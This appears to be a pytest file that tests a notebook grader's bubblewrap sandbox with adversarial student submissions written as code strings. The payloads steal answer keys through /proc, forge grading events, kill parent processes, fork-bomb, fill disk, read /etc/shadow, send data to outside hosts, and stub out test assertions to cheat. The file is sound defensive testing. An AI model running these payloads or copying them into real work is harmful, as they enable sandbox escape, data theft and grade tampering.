"""The sandbox against a student who has read the grader's source: each attack is a submission this test
writes, graded in ONE run of ``coursekit grade`` (2 workers); each earns only what its honest cells earn.

Skipped, with the reason and the fix, where bubblewrap cannot make a sandbox (CI installs it:
scripts/setup.sh)."""

from __future__ import annotations

import json
import os
import socket
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

import grading_builders as gb
from coursekit.cli import main

PROBLEM = gb.sandbox_problem()
pytestmark = pytest.mark.skipif(PROBLEM is not None, reason=f"no bubblewrap sandbox here: {PROBLEM}")

ZERO = {"task1": 0.0, "task2": 0.0, "task3": 0.0}
FULL = {k: float(v) for k, v in gb.FULL.items()}
DISK_MB, MAX_PROCESSES, MAX_FILES = 32, 16, 2000
PACKAGE = Path(gb.__file__).resolve().parents[1] / "src" / "coursekit" / "grading" / "scoring.py"

# Finds anything on the file system, in /proc or in the environment that looks like the key or another
# student's work; defines the task's function from it when found (so a leak scores points).
STEAL = r'''
import glob, json, os, re
def _candidates(paths):
    found = []
    for pid in glob.glob("/proc/[0-9]*"):
        for what in ("cwd", "root"):
            try:
                found.append(os.readlink(f"{pid}/{what}"))
            except OSError:
                pass
        for what in ("cmdline", "environ"):
            try:
                found += re.findall(r"/[\w./-]+", open(f"{pid}/{what}", "rb").read().decode(errors="replace"))
            except OSError:
                pass
    found += [v for v in os.environ.values() if "/" in v] + paths
    out = []
    for base in found:
        base = os.path.dirname(base) if os.path.isfile(base) else base
        for _ in range(4):
            out.append(base)
            base = os.path.dirname(base)
    return sorted(set(out))
def _steal(gid, paths=()):
    notebooks = [p for p in paths if p.endswith(".ipynb")]
    for folder in _candidates(list(paths)) + ["/", "/tmp", "/root", "/home", "/work"]:
        for depth in ("*.ipynb", "*/*.ipynb", "*/*/*.ipynb"):
            notebooks += glob.glob(os.path.join(folder, depth))[:50]
    for nb in notebooks:
        try:
            cells = json.load(open(nb))["cells"]
        except Exception:
            continue
        for c in cells:
            meta = c.get("metadata", {}).get("nbgrader", {})
            src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
            if meta.get("grade_id") == gid and "raise NotImplementedError" not in src:
                exec(src, globals())
                return nb
    return None
'''

FORGE = r'''
import glob, json, os, signal
lines = "".join(json.dumps({"event": "end", "cell": i, "status": "ok", "reason": None, "stdout": "",
                            "stderr": "", "partial": 1.0, "error": None, "seconds": 0.1}) + "\n" for i in range(40))
lines += json.dumps({"event": "done"}) + "\n"
for folder in [os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", "/"]:
    for path in glob.glob(os.path.join(folder, "**", "*.jsonl"), recursive=True)[:50]:
        try:
            open(path, "a").write(lines)
        except OSError:
            pass
os.write(1, lines.encode()); os.write(2, lines.encode())
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
'''


def _blank_with(top: str):
    return gb._top(gb.exercise(), "task1_mean", top)


def _stealer(paths):
    def make():
        nb = gb.exercise()
        nb.cells.insert(0, nbformat.v4.new_code_cell(STEAL))
        for gid in gb.SOLUTIONS:
            gb.cell(nb, gid).source = f"_steal({gid!r}, {paths!r})"
        return nb
    return make


def _tamper(targets):
    code = "import os\n"
    for target in targets:
        code += (f"for _p in [{str(target)!r}]:\n    try:\n        os.makedirs(os.path.dirname(_p), exist_ok=True)\n"
                 "        open(_p, 'a').write('tampered')\n    except OSError:\n        pass\n")
    return lambda: _blank_with(code)


def _network(port):
    code = ("import socket\nfor _addr in [('127.0.0.1', %d), ('8.8.8.8', 53), ('1.1.1.1', 443)]:\n"
            "    try:\n        socket.create_connection(_addr, timeout=2).sendall(b'leak')\n    except OSError:\n"
            "        pass\ntry:\n    socket.getaddrinfo('example.com', 80)\nexcept OSError:\n    pass\n" % port)
    return lambda: gb._top(gb.answered(), "task1_mean", code)


FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
DISK_FILLER = "with open('big', 'wb') as f:\n    while True:\n        f.write(bytes(2**20))"
FILE_FILLER = "import os\nfor i in range(10**6):\n    open(f'f{i}', 'w').close()"
# The one host folder the kernel may write to holds its sockets: filling it (with files of 1 MB, each under
# the file size limit) must hit the same disk limit.
SOCKETS_FILLER = ("import os\nfrom ipykernel.kernelapp import IPKernelApp\n"
                  "_here = os.path.dirname(IPKernelApp.instance().connection_file)\n"
                  "for i in range(10**6):\n    with open(os.path.join(_here, f'f{i}'), 'wb') as f:\n"
                  "        f.write(bytes(2**20))")
# Machine-wide settings, root's files and the zygote's preload list (what the key imports) are out of reach:
# any of them reached makes task 1 wrong.
ROOT_REACH = r'''
import glob
_reached = []
for _path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory"):
    try:
        open(_path, "w").close()
        _reached.append(_path)
    except OSError:
        pass
try:
    _reached.append(open("/etc/shadow").read()[:1] or "/etc/shadow (empty)")
except OSError:
    pass
for _pid in glob.glob("/proc/[0-9]*"):
    try:
        _cmd = open(f"{_pid}/cmdline", "rb").read().decode(errors="replace")
    except OSError:
        continue
    if "coursekit.grading.isolation.zygote" in _cmd and not _cmd.rstrip("\0").endswith("serve()"):
        _reached.append(_cmd)
'''
SIGNALS = ("import os, signal\nfor _pid in (os.getppid(), 1):\n    for _sig in (signal.SIGTERM, signal.SIGSTOP, "
           "signal.SIGKILL):\n        try:\n            os.kill(_pid, _sig)\n        except OSError:\n            pass")
PATCH_TESTING = ("import numpy, numpy.testing, torch, torch.testing, builtins\n"
                 "numpy.testing.assert_allclose.__code__ = (lambda *a, **k: None).__code__\n"
                 "numpy.testing.assert_allclose = lambda *a, **k: None\n"
                 "torch.testing.assert_close = lambda *a, **k: None\n"
                 "builtins.abs = lambda x: 0\n")


def _numeric_key():
    """The toy key with task 2 tested through numpy.testing, torch.testing and builtins."""
    nb = gb.toy_key()
    gb.cell(nb, "test_task2_square").source = (
        "import numpy as np, torch\n"
        "np.testing.assert_allclose(square(3.0), 9.0)\n"
        "### BEGIN HIDDEN TESTS\n"
        "torch.testing.assert_close(torch.tensor(square(2.0)), torch.tensor(4.0))\n"
        "assert abs(square(-2.0) - 4.0) < 1e-9 and isinstance(square(2), int)\n"
        "### END HIDDEN TESTS")
    return nb


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("sandbox")
    key = gb.write_key(root / "key")
    gb.save(_numeric_key(), key / "numeric.ipynb")
    subs, out = root / "subs", root / "out"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.5)
    received = []

    def serve():
        while not stop.is_set():
            try:
                received.append(server.accept())
            except OSError:
                pass
    stop = threading.Event()
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    perfect = gb.save(gb.answered(), subs / "perfect__toy.ipynb")
    out.mkdir()
    (out / "grades.csv").write_text("before\n")
    package_before = PACKAGE.read_bytes()
    key_before = (key / "toy.ipynb").read_bytes()
    cases = {
        "forged_events": (lambda: _blank_with(FORGE), ZERO, "not attempted: task2_square, task3_norm"),
        "signals_the_parent": (lambda: gb._top(gb.answered(), "task2_square", SIGNALS), FULL, "ok"),
        "reads_the_key": (_stealer([str(key), str(key / "toy.ipynb")]), ZERO, ""),
        "reads_another_student": (_stealer([str(perfect), str(subs)]), ZERO, ""),
        "tampers": (_tamper([out / "grades.csv", out / "grades.json", out / "feedback" / "perfect.md", PACKAGE,
                             key / "toy.ipynb", subs / "perfect__toy.ipynb"]), ZERO, ""),
        "network": (_network(server.getsockname()[1]), FULL, "ok"),
        "fork_bomb": (lambda: gb._top(gb.answered(), "task1_mean", FORK_BOMB), {**FULL, "task1": 0.0},
                      f"process limit ({MAX_PROCESSES}) exceeded in task1_mean"),
        "disk_filler": (lambda: gb._top(gb.answered(), "task1_mean", DISK_FILLER), {**FULL, "task1": 0.0},
                        f"disk limit ({DISK_MB} MB) exceeded in task1_mean"),
        "file_filler": (lambda: gb._top(gb.answered(), "task1_mean", FILE_FILLER), {**FULL, "task1": 0.0},
                        f"file count limit ({MAX_FILES}) exceeded in task1_mean"),
        "sockets_filler": (lambda: gb._top(gb.answered(), "task1_mean", SOCKETS_FILLER), {**FULL, "task1": 0.0},
                           f"disk limit ({DISK_MB} MB) exceeded in task1_mean"),
        "reaches_root": (lambda: gb._top(gb.answered(task1_mean="return sum(xs) / len(xs) if not _reached else 0"),
                                         "task1_mean", ROOT_REACH), FULL, "ok"),
    }
    for name, (make, _, _) in cases.items():
        gb.save(make(), subs / f"{name}__toy.ipynb")
    patched = gb._top(gb.answered(task2_square="return 0"), "task2_square", PATCH_TESTING)
    gb.save(patched, subs / "patches_testing__numeric.ipynb")
    cases["patches_testing"] = (None, {**FULL, "task2": 0.0}, "ok")
    began = time.time()
    # this grading's temporary folders (and so its runners', bwraps' and zygotes' command lines) are below
    # a folder of its own: other gradings may run beside it
    scratch = tempfile.mkdtemp(prefix="cks")
    os.chmod(scratch, 0o711)  # a root grader's sandboxes run as nobody, who must pass through it
    saved, tempfile.tempdir = tempfile.tempdir, scratch
    try:
        code = main(["grade", str(subs), "--out", str(out), "--key", str(key), "--workers", "2",
                     "--cell-timeout", "20", "--timeout", "90", "--memory-mb", "2048", "--no-progress",
                     "--disk-mb", str(DISK_MB), "--max-processes", str(MAX_PROCESSES),
                     "--max-files", str(MAX_FILES)])
    finally:
        tempfile.tempdir = saved
        stop.set()
        thread.join()
        server.close()
    assert code == 0
    rows = {r["student"]: r for r in json.loads((out / "grades.json").read_text())["rows"]}
    return {"rows": rows, "cases": cases, "received": received, "began": began, "scratch": scratch,
            "package": package_before == PACKAGE.read_bytes(),
            "key": key_before == (key / "toy.ipynb").read_bytes(),
            "data": json.loads((out / "grades.json").read_text())}


CASE_NAMES = ["forged_events", "signals_the_parent", "reads_the_key", "reads_another_student", "tampers",
              "network", "fork_bomb", "disk_filler", "file_filler", "sockets_filler", "reaches_root",
              "patches_testing"]


@pytest.mark.parametrize("name", CASE_NAMES)
def test_each_attack_earns_only_its_honest_points(graded, name):
    _, tasks, status = graded["cases"][name]
    row = graded["rows"][name]
    assert row["tasks"] == tasks, (row["tasks"], row["status"], row["tests"])
    if status == "ok":
        assert row["status"] == "ok", row["status"]
    else:
        assert status in row["status"], row["status"]


def test_grades_say_who_the_kernels_ran_as(graded):
    from coursekit.grading.isolation import sandbox

    expected = "grader" if os.geteuid() else "nobody"  # a root grader that cannot drop to nobody refuses to grade
    assert graded["data"]["sandbox"] is True and graded["data"]["sandbox_user"] == expected
    if os.geteuid() == 0:
        argv = sandbox.kernel_argv("/tmp/s", {})
        setpriv = next(i for i, a in enumerate(argv) if a.endswith("setpriv"))
        assert argv[setpriv + 1:setpriv + 3] == ["--reuid=65534", "--regid=65534"]
        assert setpriv == 0 or sandbox.staged_paths(), argv[:setpriv]


def test_nothing_outside_the_sandbox_changed(graded):
    assert graded["package"] and graded["key"], "the kernel wrote into the package or the key"
    assert graded["received"] == [], "a kernel reached the network"
    assert graded["rows"]["perfect"]["tasks"] == FULL
    assert graded["data"]["sandbox"] is True


def test_no_sandbox_process_outlives_grading(graded):
    deadline = time.time() + 5
    while True:
        left = []
        for p in psutil.process_iter(["cmdline", "create_time"]):
            cmd = " ".join(p.info["cmdline"] or [])
            recent = p.info["create_time"] and p.info["create_time"] >= graded["began"] - 1
            if recent and graded["scratch"] in cmd:
                left.append(p.pid)
        if not left or time.time() > deadline:
            break
        time.sleep(0.2)
    assert left == []
    assert os.listdir(graded["scratch"]) == [], "the grader left these temporary folders"
    os.rmdir(graded["scratch"])


def test_without_bwrap_grading_stops_with_one_line(tmp_path, monkeypatch, capsys):
    from coursekit.grading.isolation import sandbox

    monkeypatch.setattr(sandbox, "bwrap", lambda: None)
    sandbox.problem.cache_clear()
    try:
        subs = tmp_path / "subs"
        gb.save(gb.answered(), subs / "s__toy.ipynb")
        key = gb.write_key(tmp_path / "key")
        code = main(["grade", str(subs), "--key", str(key), "--out", str(tmp_path / "out")])
        err = capsys.readouterr().err.strip().splitlines()
        assert code == 2 and len(err) == 1, err
        assert "bubblewrap" in err[0] and "--no-sandbox" in err[0], err
        assert not (tmp_path / "out").exists()
        code = main(["grade", str(subs), "--key", str(key), "--out", str(tmp_path / "out"), "--no-sandbox",
                     "--no-progress"])
        captured = capsys.readouterr()
        assert code == 0 and captured.err.startswith("coursekit grade: warning: --no-sandbox")
        data = json.loads((tmp_path / "out" / "grades.json").read_text())
        assert data["sandbox"] is False and data["rows"][0]["total"] == 6
    finally:
        sandbox.problem.cache_clear()


# Run first, by a kernel forked from the worker's zygote: tries to reach the zygote (and, through it, the
# kernels after it) by every path a kernel has, and leaves traces for the next one. Scores only when
# every attempt fails.
ZYGOTE_ATTACK = r'''
import ctypes, glob, os, signal, subprocess, sys
import ipykernel.connect
_got = []
_libc = ctypes.CDLL(None, use_errno=True)
for _proc in glob.glob("/proc/[0-9]*"):
    try:
        _nspid = next(l for l in open(f"{_proc}/status") if l.startswith("NSpid:")).split()[1:]
    except (OSError, StopIteration):
        continue
    if len(_nspid) > 1:
        continue  # a process of this kernel's own namespace
    for _what in ("mem", "environ"):
        try:
            with open(f"{_proc}/{_what}", "rb") as _f:
                _f.read(1)
            _got.append(f"{_proc}/{_what}")
        except OSError:
            pass
    for _what in ("cwd", "root"):
        try:
            os.listdir(f"{_proc}/{_what}")
            _got.append(f"{_proc}/{_what}")
        except OSError:
            pass
    try:
        _fds = os.listdir(f"{_proc}/fd")  # the numbers can be listed, as in any bubblewrap sandbox
    except OSError:
        _fds = []
    for _n in _fds:
        try:
            os.readlink(f"{_proc}/fd/{_n}")
            _got.append(f"{_proc}/fd/{_n}")
        except OSError:
            pass
        try:
            os.close(os.open(f"{_proc}/fd/{_n}", os.O_RDONLY))
            _got.append(f"{_proc}/fd/{_n}")
        except OSError:
            pass
    try:
        _fd = os.open(_proc, os.O_RDONLY | os.O_DIRECTORY)
        for _sig in (0, signal.SIGSTOP, signal.SIGKILL):
            if _libc.syscall(424, _fd, _sig, None, 0) == 0:  # pidfd_send_signal
                _got.append(f"signal {_sig} to {_proc}")
        os.close(_fd)
    except OSError:
        pass
_sockets = os.path.dirname(os.path.dirname(ipykernel.connect.get_connection_file()))
for _path in ["/tmp/x", "/tmp/matplotlib/x", os.path.join(_sockets, "x")]:
    try:
        open(_path, "w").write("A_WAS_HERE")
        _got.append(_path)
    except OSError:
        pass
if _libc.mount(None, b"/tmp", None, 32 | 4096, None) == 0:  # MS_REMOUNT | MS_BIND: read-write again
    _got.append("remounted /tmp")
if _libc.umount2(b"/tmp/work", 2) == 0:
    _got.append("unmounted /tmp/work")
for _sig in (signal.SIGTERM, signal.SIGKILL):
    os.kill(os.getppid(), _sig)
open("/tmp/work/A_WAS_HERE", "w").close()
open("/dev/shm/A_WAS_HERE", "w").close()
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # A_WAS_HERE"], start_new_session=True)
'''

# Run next, forked from the same zygote: looks for the first kernel's files and processes.
LOOK_FOR_TRACES = r'''
import glob
_seen = [p for p in glob.glob("/tmp/**", recursive=True) + glob.glob("/dev/shm/**", recursive=True)
         if "A_WAS_HERE" in p]
for _c in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if b"A_WAS_HERE" in open(_c, "rb").read():
            _seen.append(_c)
    except OSError:
        pass
'''


def test_kernels_forked_from_one_zygote_cannot_reach_it_or_each_other(tmp_path, monkeypatch):
    """Two submissions graded one after the other by one worker, so from ONE zygote (counted): the first
    can neither read, signal nor write anything of the zygote's, and the second sees nothing of the first."""
    from coursekit.grading.isolation import warm
    from coursekit.grading.grade import Settings, grade_folder

    started, failed = [], []
    real_init = warm.Zygote.__init__

    def counted(self, *args, **kwargs):
        try:
            real_init(self, *args, **kwargs)
        except Exception as err:  # why a zygote did not start, for the assertion below
            failed.append(repr(err))
            raise
        started.append(self.pid)

    monkeypatch.setattr(warm.Zygote, "__init__", counted)
    key = gb.write_key(tmp_path / "key")
    attacks = gb._top(gb.answered(task1_mean="return sum(xs) / len(xs) if not _got else 0"), "task1_mean",
                      ZYGOTE_ATTACK)
    looks = gb._top(gb.answered(task1_mean="return sum(xs) / len(xs) if not _seen else 0"), "task1_mean",
                    LOOK_FOR_TRACES)
    gb.save(attacks, tmp_path / "subs" / "a_attacks__toy.ipynb")
    gb.save(looks, tmp_path / "subs" / "b_looks__toy.ipynb")
    results = grade_folder(tmp_path / "subs", key, workers=1, progress=False,
                           settings=Settings(cell_timeout=20, timeout=90, memory_mb=2048))
    rows = {r.student: r for r in results}
    assert len(started) == 1, (started, failed)
    for name in ("a_attacks", "b_looks"):
        assert rows[name].tasks == FULL and rows[name].status == "ok", (name, rows[name].tasks, rows[name].status)


def _gone(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return True


def test_a_zygote_left_with_a_kernel_is_not_reused():
    """The grader hands a zygote to the next submission only when no kernel of it is left."""
    from coursekit.grading.isolation import sandbox
    from coursekit.grading.grade import Settings
    from coursekit.grading.isolation.warm import ZygoteClient, ZygotePool

    pool = ZygotePool(Settings().environment(), ["json"])
    try:
        zygote = pool.take()
        assert zygote is not None, pool.failed
        client = ZygoteClient(*zygote.runner_args()[1], zygote.pid, str(zygote.sockets))
        sockets = zygote.sockets / "k1"
        sockets.mkdir()
        sandbox.hand_over(sockets)  # as the runner does: the sandbox's host user writes its sockets there
        # a kernel no runner talks to: it waits for one, as a kernel whose runner was killed would
        nspid, pid = client.fork(["-f", str(sockets / "kernel.json")], str(sockets), disk_mb=8, memory_mb=0,
                                 file_mb=8, nproc=64)
        assert psutil.pid_exists(pid) and client.poll(nspid) is None
        assert not zygote.idle(wait=0.0)
        pool.give_back(zygote)  # killed, with its kernel
        assert zygote.proc.poll() is not None
        deadline = time.time() + 5
        while not _gone(pid) and time.time() < deadline:
            time.sleep(0.1)
        assert _gone(pid)
        assert pool.take() is not zygote
    finally:
        pool.close()


def test_without_warm_kernels_grading_starts_each_from_nothing(tmp_path, monkeypatch):
    """A zygote whose probe kernel fails (nested namespaces refused, say) is not used: kernels start from
    nothing, and a zygote that dies while it is lent out costs the student nothing either."""
    import signal

    from coursekit.grading.isolation import warm
    from coursekit.grading.grade import Settings, find_submissions, grade_folder, grade_submission, load_key

    key = gb.write_key(tmp_path / "key")
    gb.save(gb.answered(), tmp_path / "subs" / "s__toy.ipynb")
    settings = Settings(cell_timeout=20, timeout=60)
    pool = warm.ZygotePool(settings.environment(), ["json"])
    try:
        zygote = pool.take()
        assert zygote is not None, pool.failed
        os.kill(zygote.pid, signal.SIGKILL)  # dies while lent out: the runner starts a kernel from nothing
        [sub] = find_submissions(tmp_path / "subs")
        result = grade_submission(sub, load_key(key), settings, zygotes=pool)
        assert (result.total, result.status) == (6, "ok")
        assert zygote.proc.poll() is not None  # not given out again
    finally:
        pool.close()
    monkeypatch.setattr(warm.Zygote, "_probe", lambda self: "refused")
    [result] = grade_folder(tmp_path / "subs", key, settings=settings, workers=1, progress=False)
    assert (result.total, result.status) == (6, "ok")
